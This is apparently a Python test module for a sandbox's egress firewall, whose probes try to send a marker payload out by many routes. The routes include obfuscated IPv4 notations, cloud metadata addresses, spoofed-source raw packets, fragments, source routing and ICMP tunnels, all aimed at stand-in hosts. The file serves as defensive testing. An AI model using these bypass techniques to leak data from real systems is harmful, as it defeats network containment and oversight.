"""What a program may try in order to send something out. Each probe is a function without arguments that runs inside and
does not care about errors: the sniffer outside is the judge."""
import contextlib
import ctypes
import os
import socket
import struct
import time

from nets import ALLOWED4, ALLOWED6, GATE4, GATE6, GATE_MAC, INSIDE4, INSIDE6, PORT, enter_new_net

EXFIL = b"EXFIL" * 8
REPORT_DELAY = 0.5  # the kernel reports a membership after a random delay; that it does not has no event
PUBLIC4, PUBLIC6 = "198.51.101.9", "2001:db8:bb::9"
V4, V6 = socket.AF_INET, socket.AF_INET6
LIBC = ctypes.CDLL(None, use_errno=True)


def tcp(host, port, kind=V4, protocol=0):
    with contextlib.suppress(OSError), socket.socket(kind, socket.SOCK_STREAM, protocol) as s:
        s.settimeout(0.3)
        s.connect((host, port))
        s.send(EXFIL)


def udp(host, port, kind=V4, size=len(EXFIL), protocol=0):
    with contextlib.suppress(OSError), socket.socket(kind, socket.SOCK_DGRAM, protocol) as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        for _ in range(2):
            with contextlib.suppress(OSError):
                s.sendto((EXFIL * (size // len(EXFIL) + 1))[:size], (host, port))


def raw(host, protocol, payload, kind=V4):
    with contextlib.suppress(OSError), socket.socket(kind, socket.SOCK_RAW, protocol) as s:
        s.sendto(payload, (host, 0))


# --- headers of our own ----------------------------------------------------------------------------------------------

def header4(protocol, payload, source=INSIDE4, target=PUBLIC4, fragment=0, identity=1):
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), identity, fragment, 64, protocol, 0,
                       socket.inet_aton(source), socket.inet_aton(target)) + payload


def header6(protocol, payload, source=INSIDE6, target=PUBLIC6):
    return struct.pack("!IHBB16s16s", 6 << 28, len(payload), protocol, 64, socket.inet_pton(V6, source),
                       socket.inet_pton(V6, target)) + payload


def datagram(payload=EXFIL, port=9):
    return struct.pack("!HHHH", port, port, 8 + len(payload), 0) + payload


def with_header4(packet, target=PUBLIC4):
    with contextlib.suppress(OSError), socket.socket(V4, socket.SOCK_RAW, socket.IPPROTO_RAW) as s:
        s.sendto(packet, (target, 0))


def with_header6(packet, target=PUBLIC6):
    with contextlib.suppress(OSError), socket.socket(V6, socket.SOCK_RAW, socket.IPPROTO_RAW) as s:
        s.sendto(packet, (target, 0))


def bare_ack(host, kind):
    segment = struct.pack("!HHIIBBHHH", 4321, PORT, 7, 7, 5 << 4, 0x10, 1024, 0, 0) + EXFIL
    with contextlib.suppress(OSError), socket.socket(kind, socket.SOCK_RAW, socket.IPPROTO_TCP) as s:
        if kind == V6:
            s.setsockopt(socket.IPPROTO_IPV6, 7, 16)  # IPV6_CHECKSUM: where the kernel puts it
        s.sendto(segment, (host, 0))


def unrelated_error(host, kind):
    """An ICMP error about a flow that there is not; what it quotes carries data."""
    body = header4(17, datagram()) if kind == V4 else header6(17, datagram())
    head = b"\x03\x01\xfc\xfe\0\0\0\0" if kind == V4 else b"\x01\x01\0\0\0\0\0\0"
    raw(host, socket.IPPROTO_ICMP if kind == V4 else socket.IPPROTO_ICMPV6, head + body, kind)


def ip_option(option):
    with contextlib.suppress(OSError), socket.socket(V4, socket.SOCK_DGRAM) as s:
        s.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, option)
        s.sendto(EXFIL, (ALLOWED4, PORT))


def extension_header(name, value):
    with contextlib.suppress(OSError), socket.socket(V6, socket.SOCK_DGRAM) as s:
        s.setsockopt(socket.IPPROTO_IPV6, name, value)
        s.sendto(EXFIL, (PUBLIC6, PORT))


def routing_header():
    hop = socket.inet_pton(V6, ALLOWED6)
    with_header6(header6(43, struct.pack("!BBBBI", 17, 2, 2, 1, 0) + hop + datagram(), target=PUBLIC6), PUBLIC6)


def fast_open(host, kind):
    with contextlib.suppress(OSError), socket.socket(kind) as s:
        s.settimeout(0.3)
        s.sendto(EXFIL, socket.MSG_FASTOPEN, (host, PORT))


def sendmmsg(host, kind):
    class Iovec(ctypes.Structure):
        _fields_ = [("base", ctypes.c_char_p), ("size", ctypes.c_size_t)]

    class Msghdr(ctypes.Structure):
        _fields_ = [("name", ctypes.c_char_p), ("name_size", ctypes.c_uint), ("iov", ctypes.POINTER(Iovec)),
                    ("iov_count", ctypes.c_size_t), ("control", ctypes.c_void_p), ("control_size", ctypes.c_size_t),
                    ("flags", ctypes.c_int)]

    class Mmsghdr(ctypes.Structure):
        _fields_ = [("head", Msghdr), ("size", ctypes.c_uint)]
    address = (struct.pack("=H", kind) + struct.pack("!H", 9) +
               (socket.inet_aton(host) + bytes(8) if kind == V4 else bytes(4) + socket.inet_pton(V6, host) + bytes(4)))
    part = Iovec(EXFIL, len(EXFIL))
    messages = (Mmsghdr * 4)(*[Mmsghdr(Msghdr(address, len(address), ctypes.pointer(part), 1)) for _ in range(4)])
    with socket.socket(kind, socket.SOCK_DGRAM) as s:
        LIBC.sendmmsg(s.fileno(), messages, 4, 0)


def simultaneous_open(host, kind):
    """From a port that a peer could be connecting to at the same moment."""
    with contextlib.suppress(OSError), socket.socket(kind) as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind(("", 7777))
        s.settimeout(0.3)
        s.connect((host, 7777))
        s.send(EXFIL)


def echo(kind, host, head):
    protocol = socket.IPPROTO_ICMP if kind == V4 else socket.IPPROTO_ICMPV6
    with contextlib.suppress(OSError), socket.socket(kind, socket.SOCK_DGRAM, protocol) as s:
        s.sendto(head + b"\0\0\0\0\0\1" + EXFIL, (host, 0))


def raw_echo(kind, host, head):
    raw(host, socket.IPPROTO_ICMP if kind == V4 else socket.IPPROTO_ICMPV6, head + b"\0\0\0\0\0\1" + EXFIL, kind)


def join4():
    with contextlib.suppress(OSError), socket.socket(V4, socket.SOCK_DGRAM) as s:
        s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton("239.69.88.70") + socket.inet_aton(INSIDE4))
        time.sleep(REPORT_DELAY)


def join6():
    with contextlib.suppress(OSError), socket.socket(V6, socket.SOCK_DGRAM) as s:
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_JOIN_GROUP,
                     socket.inet_pton(V6, "ff0e::4558:4649:4c21") + struct.pack("I", socket.if_nametoindex("eth0")))
        time.sleep(REPORT_DELAY)


def multicast6(group):
    with contextlib.suppress(OSError), socket.socket(V6, socket.SOCK_DGRAM) as s:
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, socket.if_nametoindex("eth0"))
        s.sendto(EXFIL, (group, 9))


def own_namespace():
    """A user who makes a namespace of his own finds no way out of it."""
    child = os.fork()
    if child == 0:
        with contextlib.suppress(OSError):
            enter_new_net()
        udp(PUBLIC4, 9)
        os._exit(0)
    os.waitpid(child, 0)


def resolver(transport):
    # an engine's resolver: asked on loopback, it would ask the world
    transport("127.0.0.11", 53)


def both(name, body4, body6):
    return {f"{name}, IPv4": body4, f"{name}, IPv6": body6}


PRIVATE4 = ["10.1.2.3", "172.16.0.9", "192.168.7.7", "100.64.0.9", "198.18.0.9", "192.0.0.9", "192.88.99.9", "0.1.2.3",
            "240.0.0.9"]
PRIVATE6 = ["fd09::9", "64:ff9b::a00:1", "64:ff9b:1::a00:1", "2002:a00:1::1", "2001:0:a00:1::9", "fec0::9", "::a00:9",
            "100::9"]
METADATA4 = ["169.254.169.254", "169.254.170.2", "100.100.100.200", "168.63.129.16"]
METADATA6 = ["fd00:ec2::254", "fd20:ce::254"]

PROBES = {
    **both("tcp to another port of an allowed address", lambda: tcp(ALLOWED4, 80), lambda: tcp(ALLOWED6, 80, V6)),
    **both("tcp to another public address", lambda: tcp(PUBLIC4, PORT), lambda: tcp(PUBLIC6, PORT, V6)),
    "tcp to an address written in hex": lambda: tcp("0xc6336509", PORT),
    "tcp to an address written as one number": lambda: tcp("3325256969", PORT),
    "tcp to an address written in octal": lambda: tcp("0306.063.0145.011", PORT),
    "tcp to an address with a part left out": lambda: tcp("198.51.25865", PORT),
    "tcp to an IPv4-mapped address": lambda: tcp("::ffff:" + PUBLIC4, PORT, V6),
    "udp to an IPv4-mapped address": lambda: udp("::ffff:" + PUBLIC4, 9, V6),
    **both("multipath tcp", lambda: tcp(PUBLIC4, PORT, V4, 262), lambda: tcp(PUBLIC6, PORT, V6, 262)),
    **both("tcp fast open", lambda: fast_open(PUBLIC4, V4), lambda: fast_open(PUBLIC6, V6)),
    **both("simultaneous open", lambda: simultaneous_open(PUBLIC4, V4), lambda: simultaneous_open(PUBLIC6, V6)),
    **{f"tcp to the metadata service {host}": lambda host=host: tcp(host, 80) for host in METADATA4},
    **{f"tcp to the metadata service {host}": lambda host=host: tcp(host, 80, V6) for host in METADATA6},
    **{f"tcp to {host}": lambda host=host: tcp(host, PORT) for host in PRIVATE4 if not host.startswith(("0.", "240"))},
    **{f"tcp to {host}": lambda host=host: tcp(host, PORT, V6) for host in PRIVATE6},
    "udp to 240/4": lambda: udp("240.0.0.9", 9),
    **both("tcp to the gateway", lambda: tcp(GATE4, 22), lambda: tcp(GATE6, 22, V6)),
    **both("udp to the gateway", lambda: udp(GATE4, 53), lambda: udp(GATE6, 53, V6)),
    **both("udp", lambda: udp(PUBLIC4, 9), lambda: udp(PUBLIC6, 9, V6)),
    **both("udp by sendmmsg", lambda: sendmmsg(PUBLIC4, V4), lambda: sendmmsg(PUBLIC6, V6)),
    **both("quic", lambda: udp(PUBLIC4, 443), lambda: udp(PUBLIC6, 443, V6)),
    **both("dns over udp", lambda: udp(PUBLIC4, 53), lambda: udp(PUBLIC6, 53, V6)),
    **both("dns over tcp", lambda: tcp(PUBLIC4, 53), lambda: tcp(PUBLIC6, 53, V6)),
    **both("dns over tls", lambda: tcp(PUBLIC4, 853), lambda: tcp(PUBLIC6, 853, V6)),
    **both("udp in fragments", lambda: udp(PUBLIC4, 9, size=5000), lambda: udp(PUBLIC6, 9, V6, size=5000)),
    **both("udplite", lambda: udp(PUBLIC4, 9, protocol=136), lambda: udp(PUBLIC6, 9, V6, protocol=136)),
    "udp to link-local": lambda: udp("fe80::1%eth0", 9, V6),
    "broadcast": lambda: udp("255.255.255.255", 9),
    "broadcast of the network": lambda: udp("198.51.100.255", 9),
    **both("multicast", lambda: udp("224.0.0.251", 5353), lambda: udp("ff02::fb%eth0", 5353, V6)),
    **both("multicast of global scope", lambda: udp("239.1.2.3", 9), lambda: multicast6("ff0e::9")),
    "igmp report": join4,
    "mld report": join6,
    **both("ping", lambda: echo(V4, PUBLIC4, b"\x08\0"), lambda: echo(V6, PUBLIC6, b"\x80\0")),
    **both("ping of an allowed address", lambda: echo(V4, ALLOWED4, b"\x08\0"), lambda: echo(V6, ALLOWED6, b"\x80\0")),
    **both("ping by a raw socket", lambda: raw_echo(V4, PUBLIC4, b"\x08\0"), lambda: raw_echo(V6, PUBLIC6, b"\x80\0")),
    **both("icmp error about no flow", lambda: unrelated_error(PUBLIC4, V4), lambda: unrelated_error(PUBLIC6, V6)),
    "icmp timestamp": lambda: raw(PUBLIC4, socket.IPPROTO_ICMP, b"\x0d\0" + EXFIL),
    "icmp redirect": lambda: raw(PUBLIC4, socket.IPPROTO_ICMP, b"\x05\1" + EXFIL),
    **{f"{name}, {family}": lambda host=host, number=number, head=head, kind=kind: raw(host, number, head + EXFIL, kind)
       for family, host, kind in (("IPv4", PUBLIC4, V4), ("IPv6", PUBLIC6, V6))
       for name, number, head in (("sctp", 132, b""), ("dccp", 33, b""), ("gre", 47, b"\0\0\x08\0"), ("ip in ip", 4, b"\x45"),
                                  ("IPv6 in ip", 41, b"\x60"), ("esp", 50, b"\0\0\1\0\0\0\0\1"), ("ah", 51, b""),
                                  ("ospf", 89, b""), ("an unknown protocol", 253, b""))},
    **both("a header of its own", lambda: with_header4(header4(17, datagram())), lambda: with_header6(header6(17, datagram()))),
    **both("a spoofed source", lambda: with_header4(header4(17, datagram(), "192.0.2.99")),
           lambda: with_header6(header6(17, datagram(), "2001:db8:99::1"))),
    **both("a first fragment alone", lambda: with_header4(header4(17, datagram(), fragment=0x2000)),
           lambda: with_header6(header6(44, struct.pack("!BBHI", 17, 0, 1, 7) + datagram()))),
    **both("a later fragment alone", lambda: with_header4(header4(17, EXFIL, fragment=0x0010)),
           lambda: with_header6(header6(44, struct.pack("!BBHI", 17, 0, 0x80, 7) + EXFIL))),
    "a loose source route": lambda: ip_option(bytes([131, 7, 4]) + socket.inet_aton(PUBLIC4) + b"\0"),
    "a strict source route": lambda: ip_option(bytes([137, 7, 4]) + socket.inet_aton(GATE4) + b"\0"),
    "a routing header": routing_header,
    "a hop-by-hop header": lambda: extension_header(54, bytes([0, 0, 1, 4, 0, 0, 0, 0])),
    "a destination header": lambda: extension_header(59, bytes([0, 0, 1, 4, 0, 0, 0, 0])),
}
# These carry data to the allowed destination, so that only it tells. Conntrack takes a bare segment of a flow that it
# does not know for a flow of its own, unless it is told not to.
TO_ALLOWED = {
    **both("a bare segment to an allowed destination", lambda: bare_ack(ALLOWED4, V4), lambda: bare_ack(ALLOWED6, V6)),
    **both("a spoofed source to an allowed destination",
           lambda: with_header4(header4(17, datagram(port=PORT), "192.0.2.99", ALLOWED4), ALLOWED4),
           lambda: with_header6(header6(17, datagram(port=PORT), "2001:db8:99::1", ALLOWED6), ALLOWED6)),
    **both("an unfinished fragment to an allowed destination",
           lambda: with_header4(header4(17, EXFIL, target=ALLOWED4, fragment=0x0010), ALLOWED4),
           lambda: with_header6(header6(44, struct.pack("!BBHI", 17, 0, 0x80, 7) + EXFIL, target=ALLOWED6), ALLOWED6)),
}
# Nothing of these leaves even without rules; they hold that no rule makes a hole for them.
WITHOUT_CONTROL = {
    "a namespace of its own": own_namespace,
    "the engine's resolver over udp": lambda: resolver(udp),
    "the engine's resolver over tcp": lambda: resolver(tcp),
    "localhost": lambda: udp("127.0.0.1", 9),
    "its own address": lambda: udp(INSIDE4, 9),
    "address 0": lambda: tcp("0.0.0.0", 9),
}


def frame(device="eth0", kind=0x0800):
    """A frame made by the program itself: AF_PACKET, with CAP_NET_RAW."""
    with contextlib.suppress(OSError), socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s:
        s.bind((device, 0))
        target = bytes.fromhex(GATE_MAC.replace(":", ""))
        s.send(target + bytes(6) + struct.pack("!H", kind) + header4(17, datagram()))
